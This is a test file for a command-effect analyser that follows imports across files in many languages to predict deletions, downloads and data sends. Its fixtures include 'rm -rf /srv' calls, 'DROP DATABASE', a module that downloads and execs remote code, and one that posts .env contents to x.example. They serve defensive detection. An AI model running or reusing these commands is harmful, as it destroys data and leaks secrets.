import { expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

const act = { javascript: "require('child_process').execSync('rm -rf /srv')\n", python: 'import os\nos.system("rm -rf /srv")\n' }

/** Files of which each loads the next. */
const chain = (length: number): Readonly<Record<string, string>> =>
  Object.fromEntries(Array.from({ length }, (_, index) => [`${index}.cjs`, `require('./${index + 1}.cjs')`]))

test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>]>([
  ['a module that a script requires', 'node a.cjs', { 'a.cjs': "require('./lib/util.cjs').go()", 'lib/util.cjs': act.javascript }],
  ['one without its ending', 'node src/a.js', { 'src/a.js': "const u = require('../lib/util')", 'lib/util.js': act.javascript }],
  ['one that another loads', 'node a.mjs', { 'a.mjs': "import './b.mjs'", 'b.mjs': "export * from './c.mjs'", 'c.mjs': act.javascript }],
  ['a folder of code', 'tsx a.ts', { 'a.ts': "import { x } from './lib'", 'lib/index.ts': act.javascript }],
  ['a module beside a script', 'python tools/a.py', { 'tools/a.py': 'import helper\nhelper.run()', 'tools/helper.py': act.python }],
  ['a member of a package', 'python a.py', { 'a.py': 'from tools import sweep\nsweep.run()', 'tools/sweep.py': act.python }],
  ['a module of the folder one is in', 'python tools/a.py', { 'tools/a.py': 'import helper', 'helper.py': act.python }],
  ['one from the folder above', 'python a/b.py', { 'a/b.py': 'from ..c import d', 'c/d.py': act.python }],
  ['a file of Ruby', 'ruby a.rb', { 'a.rb': "require_relative 'lib/b'", 'lib/b.rb': 'system("rm -rf /srv")' }],
  ['a file of PHP', 'php a.php', { 'a.php': "<?php require __DIR__ . '/b.php';", 'b.php': "<?php exec('rm -rf /srv');" }],
  ['one with another ending', 'php a.php', { 'a.php': "<?php include 'b.inc';", 'b.inc': "<?php exec('rm -rf /srv');" }],
  ['one that deletes', 'node a.cjs', { 'a.cjs': "require('./b.cjs')", 'b.cjs': "require('fs').rmSync('/srv', { recursive: true })" }],
  [
    'one that starts a program',
    'node a.cjs',
    { 'a.cjs': "require('./b.cjs')", 'b.cjs': "require('child_process').spawnSync('rm', ['-rf', '/srv'])" },
  ],
  ['one that settings only name', 'jest', { 'jest.config.js': "module.exports = { setupFiles: ['./a.js'] }", 'a.js': act.javascript }],
  [
    'a function of Perl in another file',
    'perl a.pl',
    {
      'a.pl': "use My::Files;\nclear('/srv');\n",
      'My/Files.pm': 'package My::Files;\nsub clear {\n    my ($f) = @_;\n    unlink($f);\n}\n1;\n',
    },
  ],
  [
    'a function of Elixir in another file',
    'mix test',
    {
      'mix.exs': '',
      'test/a_test.exs': 'defmodule A do\n  My.Files.clear("/srv")\nend\n',
      'test/support/files.ex': 'defmodule My.Files do\n  def clear(folder) do\n    folder |> Path.expand() |> File.rm_rf!()\n  end\nend\n',
    },
  ],
  [
    'a function of Swift in another file',
    'swift test',
    {
      'Tests/ATests/A.swift': '@testable import Own\nfunc t() { try clear("/srv") }\n',
      'Sources/Own/F.swift': 'public func clear(_ p: String) throws {\n  try FileManager.default.removeItem(atPath: p)\n}\n',
    },
  ],
  [
    'code that settings name by a pattern',
    'cucumber-js',
    {
      'cucumber.mjs': "export default { import: ['steps/*.mjs'] }",
      'steps/a.mjs': "import { execSync } from 'child_process'\nexecSync('rm -rf /srv')",
    },
  ],
  ['the twelfth file after the script', 'node 0.cjs', { ...chain(12), '12.cjs': act.javascript }],
])('%s', (_name, commandLine, files) => {
  const world = Object.fromEntries(Object.entries(files).map(([path, text]) => [`/w/${path}`, text]))
  expect(effectLines(commandLine, { files: world })).toContain('delete /srv')
})

test.each([
  ['a module that the line writes', 'echo \'import os; os.remove("a.db")\' > b.py; python a.py', 'delete a.db'],
  ['one that it copies', 'cp c.py b.py; python a.py', 'delete a.db'],
  ['one that it changes', "sed -i 's/path.exists/remove/' d.py; python e.py", 'delete a.db'],
  ['one that it makes unseen', 'date > b.py; python a.py', 'unknown: runs `b.py`, which this line makes in a way that is not followed'],
  [
    'one by the name of a module of the language',
    "echo 'import os; os.remove(\"a.db\")' > json.py; python -c 'import json'",
    'delete a.db',
  ],
  [
    'a folder by the name of a module of the language',
    "mkdir json; echo 'import os; os.remove(\"a.db\")' > json/__init__.py; python -c 'import json'",
    'delete a.db',
  ],
  [
    'one run in the place of a module of the language',
    'echo \'import os; os.remove("a.db")\' > timeit.py; python -m timeit 1',
    'delete a.db',
  ],
  ['the file of a folder', 'mkdir g; cp c.py g/__main__.py; python g', 'delete a.db'],
  ['one loaded before the code', 'node -r ./f -e 1', 'delete a.db'],
  ['one in a folder of libraries', 'ruby -Ilib -rset -e 1', 'delete a.db'],
])('%s', (_name, commandLine, expected) => {
  const files = {
    '/w/a.py': 'import b\n',
    '/w/c.py': 'import os\nos.remove("a.db")\n',
    '/w/d.py': 'import os\nos.path.exists("a.db")\n',
    '/w/e.py': 'import d\n',
    '/w/f.js': "require('fs').unlinkSync('a.db')",
    '/w/lib/set.rb': "File.delete('a.db')",
  }
  expect(effectLines(commandLine, { files })).toContain(expected)
})

test.each([
  ['modules that load each other', { '/w/a.cjs': "require('./b.cjs')", '/w/b.cjs': "require('./a.cjs')" }],
  ['SQL in a module', { '/w/a.cjs': "require('./b.cjs')", '/w/b.cjs': "exports.reset = (c) => c.query('DROP DATABASE app')" }],
  ['a write in a module', { '/w/a.cjs': "require('./b.cjs')", '/w/b.cjs': "require('fs').writeFileSync('/srv/a', 'x')" }],
  ['a module of somebody else', { '/w/a.cjs': "require('../other/b.cjs')", '/other/b.cjs': act.javascript }],
])('%s add nothing', (_name, files) => {
  expect(effectLines('node a.cjs', { files })).toEqual(['execute:project a.cjs'])
})

test('of a module that settings load, names alone load nothing', () => {
  const files = { '/w/jest.config.js': "require('./a.js')", '/w/a.js': "exports.name = './b.js'", '/w/b.js': act.javascript }
  expect(effectLines('jest', { files })).toEqual(['execute:project tests'])
})

test('what modules that load each other hold is followed once', () => {
  const files = { '/w/a.py': 'import b\nimport os\nos.remove(b.X)', '/w/b.py': 'import a\nX = a.Y' }
  expect(effectLines('python a.py', { files })).toEqual(['execute:project a.py'])
})

test('no more than twelve files are followed', () => {
  const files = Object.fromEntries(Object.entries({ ...chain(13), '13.cjs': act.javascript }).map(([path, text]) => [`/w/${path}`, text]))
  expect(effectLines('node 0.cjs', { files })).toEqual(['execute:project 0.cjs'])
})

test('what a module downloads and runs counts', () => {
  const files = { '/w/a.py': 'import b', '/w/b.py': "import urllib.request\nexec(urllib.request.urlopen('https://x.example').read())" }
  expect(effectLines('python a.py', { files })).toContain('execute:download text from the network')
})

const settings =
  'from pathlib import Path\nDATA = Path(__file__).parent / "data"\nALL = ["data"]\nMORE = {"dir": "data"}\nclass Own:\n    dir = "data"\nown = Own()\n'
const removes = (target: string): string => `import shutil\nshutil.rmtree(${target})\n`

test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>]>([
  ['a name', 'python a.py', { 'a.py': `from settings import DATA\n${removes('DATA')}`, 'settings.py': settings }],
  ['a member', 'python a.py', { 'a.py': `import os, settings\n${removes('settings.DATA')}`, 'settings.py': settings }],
  ['every name', 'python a.py', { 'a.py': `from settings import *\n${removes('DATA')}`, 'settings.py': settings }],
  ['an entry', 'python a.py', { 'a.py': `from settings import MORE\n${removes('MORE["dir"]')}`, 'settings.py': settings }],
  ['a field', 'python a.py', { 'a.py': `from settings import own\n${removes('own.dir')}`, 'settings.py': settings }],
  [
    'an item',
    'python a.py',
    { 'a.py': 'import shutil\nfrom settings import ALL\nfor one in ALL:\n    shutil.rmtree(one)\n', 'settings.py': settings },
  ],
  ['a module of the package', 'python a.py', { 'a.py': `from . import settings\n${removes('settings.DATA')}`, 'settings.py': settings }],
  [
    'a module of a module',
    'python a.py',
    { 'a.py': 'import b', 'b.py': `from settings import DATA\n${removes('DATA')}`, 'settings.py': settings },
  ],
  [
    'an export',
    'node a.mjs',
    { 'a.mjs': "import { out } from './b.mjs'\nimport fs from 'fs'\nfs.rmSync(out)", 'b.mjs': "export const out = 'data'" },
  ],
  [
    'the default',
    'node a.mjs',
    { 'a.mjs': "import b from './b.mjs'\nimport fs from 'fs'\nfs.rmSync(b.out)", 'b.mjs': "export default { out: 'data' }" },
  ],
  [
    'all exports',
    'node a.cjs',
    { 'a.cjs': "const { out } = require('./b.cjs')\nrequire('fs').rmSync(out)", 'b.cjs': "module.exports = { out: 'data' }" },
  ],
  ['one more', 'node a.cjs', { 'a.cjs': "require('fs').rmSync(require('./b.cjs').out)", 'b.cjs': "module.exports.out = 'data'" }],
  ['a file of data', 'node a.cjs', { 'a.cjs': "require('fs').rmSync(require('./b.json').out)", 'b.json': '{ "out": "data" }' }],
  [
    'an export that is handed on',
    'node a.mjs',
    {
      'a.mjs': "import { out } from './b.mjs'\nimport fs from 'fs'\nfs.rmSync(out)",
      'b.mjs': "export { dir as out } from './c.mjs'",
      'c.mjs': "export const dir = 'data'",
    },
  ],
  [
    'all exports handed on',
    'node a.mjs',
    {
      'a.mjs': "import { dir } from './b.mjs'\nimport fs from 'fs'\nfs.rmSync(dir)",
      'b.mjs': "export * from './c.mjs'",
      'c.mjs': "export const dir = 'data'",
    },
  ],
  [
    'one made of another',
    'python a.py',
    { 'a.py': `from b import MORE\n${removes('MORE')}`, 'b.py': 'from c import ROOT\nMORE = ROOT + "ta"', 'c.py': 'ROOT = "da"' },
  ],
  [
    'a constant of a module of Ruby',
    'ruby a.rb',
    { 'a.rb': "require_relative 'b'\nFileUtils.rm_rf(B::DATA)", 'b.rb': "module B\n  DATA = 'data'\nend" },
  ],
  [
    'an enumeration',
    'bun a.ts',
    { 'a.ts': "import { Dir } from './b'\nimport { rmSync } from 'fs'\nrmSync(Dir.Data)", 'b.ts': "export enum Dir { Data = 'data' }" },
  ],
  [
    'a variable of a module of Perl',
    'perl a.pl',
    { 'a.pl': 'use My::Dirs;\nuse File::Path;\nrmtree($My::Dirs::DATA);', 'lib/My/Dirs.pm': "package My::Dirs;\nour $DATA = 'data';\n1;" },
  ],
  ['a constant of Ruby', 'ruby a.rb', { 'a.rb': "require_relative 'b'\nFileUtils.rm_rf(DATA)", 'b.rb': "DATA = 'data'" }],
  ['a variable of PHP', 'php a.php', { 'a.php': "<?php require 'b.php'; unlink($data);", 'b.php': "<?php $data = 'data';" }],
  ['a constant of PHP', 'php a.php', { 'a.php': "<?php require 'b.php'; unlink(DATA);", 'b.php': "<?php define('DATA', 'data');" }],
])('what another file holds is deleted: %s', (_name, commandLine, files) => {
  const world = Object.fromEntries(Object.entries(files).map(([path, text]) => [`/w/${path}`, text]))
  expect(effectLines(commandLine, { files: world })).toContain('delete data')
})

const fixture = 'import pytest, shutil\n@pytest.fixture(autouse=True)\ndef clean():\n    shutil.rmtree("data")\n'
const wipes = 'import shutil\ndef wipe(path):\n    shutil.rmtree(path)\n'

test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>]>([
  ['a member', 'python a.py', { 'a.py': 'from b import wipe\nwipe("data")\n', 'b.py': wipes }],
  ['one of a module', 'python a.py', { 'a.py': 'import lib.b\nlib.b.wipe("data")\n', 'lib/b.py': wipes }],
  [
    'one that another hands on',
    'python a.py',
    { 'a.py': 'from c import wipe\nwipe("data")\n', 'c.py': 'from b import wipe\n', 'b.py': wipes },
  ],
  [
    'one that calls another',
    'python a.py',
    { 'a.py': 'from c import go\ngo("da")\n', 'c.py': 'from b import wipe\ndef go(x):\n    wipe(x + "ta")\n', 'b.py': wipes },
  ],
  [
    'one that gives the path',
    'python a.py',
    { 'a.py': 'import shutil\nfrom b import at\nshutil.rmtree(at("data"))\n', 'b.py': "# remove('x')\ndef at(x):\n    return x\n" },
  ],
  [
    'an export',
    'node a.mjs',
    { 'a.mjs': "import { wipe } from './b.mjs'\nwipe('data')", 'b.mjs': "import fs from 'fs'\nexport const wipe = (p) => fs.rmSync(p)" },
  ],
  [
    'the default',
    'node a.mjs',
    { 'a.mjs': "import wipe from './b.mjs'\nwipe('data')", 'b.mjs': "import fs from 'fs'\nexport default (p) => fs.rmSync(p)" },
  ],
  [
    'all exports',
    'node a.cjs',
    { 'a.cjs': "const b = require('./b.cjs')\nb.wipe('data')", 'b.cjs': "const fs = require('fs')\nexports.wipe = (p) => fs.rmSync(p)" },
  ],
  ['one that a test calls', 'pytest', { 'tests/test_a.py': 'from .b import wipe\ndef test_a():\n    wipe("data")\n', 'tests/b.py': wipes }],
  ['a fixture that a test loads', 'pytest', { 'tests/test_a.py': 'from .b import clean\n', 'tests/b.py': fixture }],
  ['a plugin of the set-up', 'pytest', { 'conftest.py': 'pytest_plugins = [\n  "lib.b",\n]\n', 'lib/b.py': fixture }],
  [
    'an entry',
    'node a.cjs',
    {
      'a.cjs': "const { b } = require('./b.cjs')\nb.wipe('data')",
      'b.cjs': "const fs = require('fs')\nmodule.exports = { b: { wipe: (p) => fs.rmSync(p) } }",
    },
  ],
  [
    'a class',
    'node a.cjs',
    {
      'a.cjs': "const B = require('./b.cjs')\nnew B('data').run()",
      'b.cjs': "const fs = require('fs')\nclass B { constructor(d) { this.d = d } run() { fs.rmSync(this.d) } }\nmodule.exports = B",
    },
  ],
  ['a module that a test loads', 'pytest', { 'tests/test_a.py': 'import b\n', 'tests/b.py': `${wipes}wipe("data")\n` }],
  [
    'what a test in JavaScript loads',
    'vitest run',
    { 'tests/a.test.ts': "import './b'", 'tests/b.ts': "import fs from 'fs'\nfs.rmSync('data', { recursive: true })" },
  ],
  [
    'one of Ruby',
    'ruby a.rb',
    { 'a.rb': "require_relative 'b'\nwipe('data')", 'b.rb': "require 'fileutils'\ndef wipe(path)\n  FileUtils.rm_rf(path)\nend\n" },
  ],
  [
    'one of PHP',
    'php a.php',
    { 'a.php': "<?php require 'b.php'; wipe('data');", 'b.php': '<?php function wipe($path) { unlink($path); }' },
  ],
  [
    'one of a package of Go',
    'go test .',
    {
      'a_test.go': 'package a\n\nfunc TestA(t *testing.T) { Wipe(1, "data") }\n',
      'a.go': 'package a\n\nimport "os"\n\nfunc Wipe(n int, path string) { os.RemoveAll(path) }\n',
    },
  ],
  [
    'one of a crate',
    'cargo test',
    {
      'Cargo.toml': '[package]\nname = "a"\n',
      'tests/a.rs': 'mod b;\nfn a() { b::wipe(); }\n',
      'tests/b/mod.rs': 'pub fn wipe() {\n    std::fs::remove_dir_all("data");\n}\n',
    },
  ],
  [
    'one of a Rakefile',
    'rake test',
    { Rakefile: "require_relative 'b'\ntask :test do\n  wipe 'data'\nend\n", 'b.rb': 'def wipe(path)\n  FileUtils.rm_rf(path)\nend\n' },
  ],
  [
    'what a class keeps',
    'bun a.ts',
    {
      'a.ts': "import { B } from './b'\nnew B('data').run()",
      'b.ts':
        "import { rmSync } from 'fs'\nexport class B {\n  constructor(private readonly dir: string) {}\n  run() { rmSync(this.dir) }\n}",
    },
  ],
  [
    'a list that is the module',
    'node a.cjs',
    { 'a.cjs': "for (const one of require('./b.cjs')) require('child_process').execSync(one)", 'b.cjs': "module.exports = ['rm -r data']" },
  ],
  [
    'one in a folder that the code adds',
    'python a.py',
    { 'a.py': 'import sys\nsys.path.insert(0, "lib")\nimport b\nb.wipe("data")\n', 'lib/b.py': wipes },
  ],
  ['text that runs as code', 'python a.py', { 'a.py': 'exec(open("b.txt").read())\n', 'b.txt': `${wipes}wipe("data")\n` }],
  [
    'text of JavaScript that does',
    'node a.cjs',
    { 'a.cjs': "eval(require('fs').readFileSync('b.txt', 'utf8'))", 'b.txt': "require('fs').rmSync('data')" },
  ],
  [
    'a file of settings',
    'python a.py',
    {
      'a.py': 'import tomllib, shutil\nwith open("b.toml", "rb") as f:\n    c = tomllib.load(f)\nshutil.rmtree(c["a"]["dir"])\n',
      'b.toml': '[a]\ndir = "data" # x\n',
    },
  ],
  ['a variable of the line', 'DIR=data python a.py', { 'a.py': 'import os, shutil\nshutil.rmtree(os.getenv("DIR"))\n' }],
  [
    'one that a module asks for',
    'DIR=data python a.py',
    { 'a.py': 'import shutil\nfrom b import DIR\nshutil.rmtree(DIR)\n', 'b.py': 'import os\nDIR = os.environ["DIR"]\n' },
  ],
  ['one of JavaScript', 'export DIR=data; node a.cjs', { 'a.cjs': "require('fs').rmSync(process.env.DIR)" }],
  [
    'tests that Node finds',
    'node --test',
    {
      'test/a.test.mjs': "import { wipe } from './b.mjs'\nwipe('data')",
      'test/b.mjs': "import fs from 'fs'\nexport const wipe = (p) => fs.rmSync(p)",
    },
  ],
])('what a function of another file is given is deleted: %s', (_name, commandLine, files) => {
  const world = Object.fromEntries(Object.entries(files).map(([path, text]) => [`/w/${path}`, text]))
  expect(effectLines(commandLine, { files: world })).toContain('delete data')
})

test('what a function of another file is given may be a secret that it sends off', () => {
  const files = {
    '/w/a.py': 'from b import send\nsend(open(".env").read())\n',
    '/w/b.py': 'import requests\ndef send(x):\n    requests.post("https://x.example", data=x)\n',
  }
  expect(effectLines('python a.py', { files })).toContain('send:data https://x.example')
})

test.each([
  [
    'a function that no test calls',
    { '/w/tests/test_a.py': 'import b\n', '/w/tests/b.py': 'import shutil\ndef wipe():\n    shutil.rmtree("data")\n' },
  ],
  [
    'what a module does as a program',
    { '/w/tests/test_a.py': 'import b\n', '/w/tests/b.py': `${wipes}if __name__ == "__main__":\n    wipe("data")\n` },
  ],
  [
    'a function that is given what only running shows',
    { '/w/tests/test_a.py': 'from b import wipe\ndef test_a(tmp_path):\n    wipe(tmp_path)\n', '/w/tests/b.py': wipes },
  ],
])('%s adds nothing to the tests', (_name, files) => {
  expect(effectLines('pytest', { files })).toEqual(['execute:project tests'])
})

test('no analysis changes what the next one finds in another file', () => {
  const b = 'import shutil\nplaces = "data"\ndef set_place(x):\n    global places\n    places = x\ndef wipe():\n    shutil.rmtree(places)\n'
  const lines = (a: string): readonly string[] => effectLines('python a.py', { files: { '/w/a.py': a, '/w/b.py': b } })
  const before = lines('from b import wipe\nwipe()\n')
  lines('from b import wipe, set_place\nset_place("src")\nwipe()\n')
  expect(lines('from b import wipe\nwipe() # again\n')).toEqual(before)
})

test('beside many files of tests only so much is looked through', () => {
  const long = `${wipes}${'# x\n'.repeat(2000)}`
  const files = Object.fromEntries(
    Array.from({ length: 6 }, (_, index) => [
      [`/w/tests/test_${index}.py`, `from .b${index} import wipe\nwipe("data${index}")\n`],
      [`/w/tests/b${index}.py`, `${long}# ${index}\n`],
    ]).flat(),
  )
  const lines = effectLines('pytest', { files })
  expect(lines).toContain('delete data0')
  expect(lines).not.toContain('delete data5')
})
